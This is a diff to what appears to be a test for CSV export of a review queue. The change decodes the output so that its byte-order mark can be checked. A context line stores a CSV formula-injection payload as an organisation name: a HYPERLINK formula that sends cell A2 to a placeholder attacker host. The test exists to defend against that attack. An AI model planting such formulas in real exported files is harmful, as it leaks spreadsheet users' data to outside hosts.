@@ -62,7 +62,8 @@ describe.each(DATABASE_KINDS)("review queue on %s", (kind) => {
     const hostile = '=HYPERLINK("http://evil.example/?leak="&A2,"点击查看")';
     await db.prisma.organisation.update({ where: { id: small.enterprise.organisation.id }, data: { nameZh: hostile } });
     const stream = await exportReviewQueue(db.prisma, { id: me.id, role: "REVIEWER" }, queueFilterSchema.parse({}));
-    const text = await new Response(stream).text();
+    // ignoreBOM: keep the byte-order mark in the text, to see that the file has one.
+    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(await new Response(stream).arrayBuffer());
     expect(text.startsWith("\uFEFF")).toBe(true);
     const [header, ...rows] = Papa.parse<string[]>(text.slice(1), { skipEmptyLines: true }).data;
     expect(header).toEqual(REVIEW_QUEUE_CSV_HEADER);
